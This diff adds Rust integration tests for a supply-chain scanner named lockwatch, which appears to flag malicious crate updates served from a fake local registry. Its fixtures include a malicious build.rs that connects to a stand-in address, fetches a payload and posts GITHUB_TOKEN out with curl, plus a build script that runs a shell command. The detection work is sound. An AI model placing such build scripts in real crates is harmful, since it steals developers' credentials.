@@ -1,0 +1,302 @@
+//! Issue 3 end to end: the real binary fetches crates from a local sparse registry, verifies
+//! them and reads their build scripts. The arrayref / proc-macro1 attack is caught without
+//! any advisory.
+
+use lockwatch::registry::IndexDep;
+use lockwatch::registry::fake::FakeRegistry;
+use lockwatch::testkit::Krate;
+use lockwatch_tests::bin::run_lockwatch;
+use lockwatch_tests::lockgen::{Pkg, lock, member};
+use serde_json::Value;
+use std::path::Path;
+
+const EVIL_BUILD: &str = r#"use std::io::Write;
+use std::net::TcpStream;
+use std::process::Command;
+fn main() {
+    let mut s = TcpStream::connect("203.0.113.7:80").unwrap();
+    s.write_all(b"GET /payload HTTP/1.0\r\n\r\n").unwrap();
+    let token = std::env::var("GITHUB_TOKEN").unwrap_or_default();
+    Command::new("curl").arg("-d").arg(token).arg("http://203.0.113.7/").status().ok();
+}
+"#;
+
+fn pkg(name: &str, version: &str, checksum: &str, deps: &[&str]) -> Pkg {
+    Pkg {
+        name: name.into(),
+        version: version.into(),
+        source: Some("registry+https://github.com/rust-lang/crates.io-index".into()),
+        checksum: Some(checksum.into()),
+        deps: deps.iter().map(|s| s.to_string()).collect(),
+    }
+}
+
+fn findings<'a>(v: &'a Value, code: &str, krate: &str) -> Vec<&'a Value> {
+    v["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["code"] == code && f["crate"] == krate)
+        .collect()
+}
+
+fn run_check(
+    base: &str,
+    head: &str,
+    registry: &FakeRegistry,
+    scratch: &Path,
+    extra: &[&str],
+) -> Value {
+    let dir = scratch.join("locks");
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(dir.join("base.lock"), base).unwrap();
+    std::fs::write(dir.join("Cargo.lock"), head).unwrap();
+    let index = registry.index_url().to_string();
+    let index = if index.starts_with("sparse+") {
+        index
+    } else {
+        format!("sparse+{index}")
+    };
+    let db = extra
+        .iter()
+        .position(|a| *a == "--advisory-db")
+        .map(|i| extra[i + 1].to_string())
+        .unwrap_or_else(|| lockwatch_tests::bin::fixture_db().display().to_string());
+    let extra: Vec<&str> = extra
+        .iter()
+        .enumerate()
+        .filter(|(i, a)| **a != "--advisory-db" && (*i == 0 || extra[i - 1] != "--advisory-db"))
+        .map(|(_, a)| *a)
+        .collect();
+    let (b, h) = (
+        dir.join("base.lock").display().to_string(),
+        dir.join("Cargo.lock").display().to_string(),
+    );
+    let cache = scratch.join("cache").display().to_string();
+    let mut args = vec![
+        "check",
+        "--format",
+        "json",
+        "--advisory-db",
+        &db,
+        "--index-url",
+        &index,
+        "--cache-dir",
+        &cache,
+        "--base-lock",
+        &b,
+        "--head-lock",
+        &h,
+    ];
+    args.extend_from_slice(&extra);
+    let out = run_lockwatch(&args, scratch);
+    serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)))
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_arrayref_attack_is_caught_without_an_advisory() {
+    let registry = FakeRegistry::start().await;
+    let old = Krate::new("arrayref", "0.3.9")
+        .file("src/lib.rs", "pub fn f() {}\n")
+        .build();
+    let new = Krate::new("arrayref", "0.3.10")
+        .file("src/lib.rs", "pub fn f() {}\n")
+        .build();
+    let evil = Krate::new("proc-macro1", "1.0.0")
+        .file("src/lib.rs", "")
+        .file("build.rs", EVIL_BUILD)
+        .build();
+    let old_sum = registry.publish("arrayref", "0.3.9", old, vec![]);
+    let new_sum = registry.publish(
+        "arrayref",
+        "0.3.10",
+        new,
+        vec![IndexDep::normal("proc-macro1", "^1")],
+    );
+    let evil_sum = registry.publish("proc-macro1", "1.0.0", evil, vec![]);
+    registry.set_pubtime(
+        "proc-macro1",
+        "1.0.0",
+        time::OffsetDateTime::now_utc() - time::Duration::hours(1),
+    );
+    registry.set_pubtime(
+        "arrayref",
+        "0.3.10",
+        time::OffsetDateTime::now_utc() - time::Duration::hours(1),
+    );
+    registry.set_pubtime(
+        "arrayref",
+        "0.3.9",
+        time::OffsetDateTime::now_utc() - time::Duration::days(400),
+    );
+
+    // An advisory-free world: the fixture DB has arrayref advisories, so use an empty one.
+    let scratch = tempfile::tempdir().unwrap();
+    let empty_db = scratch.path().join("empty-db/crates");
+    std::fs::create_dir_all(&empty_db).unwrap();
+    let base = lock(
+        3,
+        &[
+            member("app", "0.1.0").deps(&["arrayref"]),
+            pkg("arrayref", "0.3.9", &old_sum, &[]),
+        ],
+    );
+    let head = lock(
+        3,
+        &[
+            member("app", "0.1.0").deps(&["arrayref"]),
+            pkg("arrayref", "0.3.10", &new_sum, &["proc-macro1"]),
+            pkg("proc-macro1", "1.0.0", &evil_sum, &[]),
+        ],
+    );
+    let db = scratch.path().join("empty-db").display().to_string();
+    let v = run_check(
+        &base,
+        &head,
+        &registry,
+        scratch.path(),
+        &["--advisory-db", &db],
+    );
+
+    assert_eq!(v["verdict"], "fail");
+    assert!(
+        v["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|f| f["advisory"].is_null()),
+        "no advisory involved"
+    );
+    let caps = findings(&v, "build-capability", "proc-macro1");
+    let kinds: Vec<&str> = caps
+        .iter()
+        .map(|f| f["message"].as_str().unwrap())
+        .collect();
+    for k in ["network", "process", "credential"] {
+        assert!(
+            kinds.iter().any(|m| m.contains(k)),
+            "{k} missing from {kinds:?}"
+        );
+    }
+    let network = caps
+        .iter()
+        .find(|f| f["message"].as_str().unwrap().contains("network"))
+        .unwrap();
+    assert_eq!(network["level"], "deny");
+    assert_eq!(network["evidence"][0]["file"], "build.rs");
+    assert_eq!(network["evidence"][0]["line"], 5);
+    assert_eq!(findings(&v, "build-script-added", "proc-macro1").len(), 1);
+    assert_eq!(findings(&v, "typosquat", "proc-macro1").len(), 1);
+    assert_eq!(findings(&v, "fresh-release", "proc-macro1").len(), 1);
+    let patch = findings(&v, "new-dependency-in-patch", "arrayref");
+    assert_eq!(patch.len(), 1);
+    assert!(
+        patch[0]["message"]
+            .as_str()
+            .unwrap()
+            .contains("proc-macro1")
+    );
+    assert!(findings(&v, "unreviewable", "proc-macro1").is_empty());
+
+    // Second run: everything comes from the caches (crate bytes and analysis by checksum).
+    let hits = registry.hits();
+    let again = run_check(
+        &base,
+        &head,
+        &registry,
+        scratch.path(),
+        &["--advisory-db", &db],
+    );
+    assert_eq!(again["findings"], v["findings"]);
+    let dl_after: usize = registry
+        .requests()
+        .iter()
+        .filter(|r| r.contains("/dl/"))
+        .count();
+    let dl_before = registry.requests()[..hits as usize]
+        .iter()
+        .filter(|r| r.contains("/dl/"))
+        .count();
+    assert_eq!(dl_after, dl_before, "no second download");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn tampered_downloads_and_registry_failures_are_findings() {
+    let registry = FakeRegistry::start().await;
+    let good = Krate::new("serde", "1.0.1").file("src/lib.rs", "").build();
+    let sum = registry.publish("serde", "1.0.1", good, vec![]);
+    registry.serve_wrong_bytes("serde", "1.0.1");
+    let scratch = tempfile::tempdir().unwrap();
+    let base = lock(3, &[member("app", "0.1.0")]);
+    let head = lock(
+        3,
+        &[
+            member("app", "0.1.0").deps(&["serde", "ghost"]),
+            pkg("serde", "1.0.1", &sum, &[]),
+            pkg("ghost", "1.0.0", &"ab".repeat(32), &[]),
+        ],
+    );
+    let v = run_check(&base, &head, &registry, scratch.path(), &[]);
+    let mismatch = findings(&v, "checksum-mismatch", "serde");
+    assert_eq!(mismatch.len(), 1);
+    assert_eq!(mismatch[0]["level"], "deny");
+    let ghost = findings(&v, "unreviewable", "ghost");
+    assert!(
+        !ghost.is_empty(),
+        "a crate missing from the registry is unreviewable: {v}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn build_script_changes_show_a_diff_and_yanked_versions_are_flagged() {
+    let registry = FakeRegistry::start().await;
+    let old = Krate::new("cc-thing", "1.2.0")
+        .file("src/lib.rs", "")
+        .file(
+            "build.rs",
+            "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n",
+        )
+        .build();
+    let new = Krate::new("cc-thing", "1.2.1")
+        .file("src/lib.rs", "")
+        .file("build.rs", "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n    std::process::Command::new(\"sh\").arg(\"-c\").arg(\"id\").status().ok();\n}\n")
+        .file("native/x.c", "int x(void) { return 1; }\n")
+        .manifest_extra("links = \"thing\"\n")
+        .build();
+    let old_sum = registry.publish("cc-thing", "1.2.0", old, vec![]);
+    let new_sum = registry.publish("cc-thing", "1.2.1", new, vec![]);
+    registry.yank("cc-thing", "1.2.1");
+    let scratch = tempfile::tempdir().unwrap();
+    let base = lock(
+        3,
+        &[
+            member("app", "0.1.0").deps(&["cc-thing"]),
+            pkg("cc-thing", "1.2.0", &old_sum, &[]),
+        ],
+    );
+    let head = lock(
+        3,
+        &[
+            member("app", "0.1.0").deps(&["cc-thing"]),
+            pkg("cc-thing", "1.2.1", &new_sum, &[]),
+        ],
+    );
+    let v = run_check(&base, &head, &registry, scratch.path(), &[]);
+    let changed = findings(&v, "build-script-changed", "cc-thing");
+    assert_eq!(changed.len(), 1, "{v}");
+    assert!(
+        changed[0]["details"]
+            .as_str()
+            .unwrap()
+            .contains("+    std::process::Command::new(\"sh\")")
+    );
+    assert_eq!(
+        findings(&v, "build-capability", "cc-thing")[0]["level"],
+        "deny"
+    );
+    assert_eq!(findings(&v, "native-code", "cc-thing").len(), 1);
+    assert_eq!(findings(&v, "links-added", "cc-thing").len(), 1);
+    assert_eq!(findings(&v, "yanked", "cc-thing").len(), 1);
+    assert!(findings(&v, "build-script-added", "cc-thing").is_empty());
+}
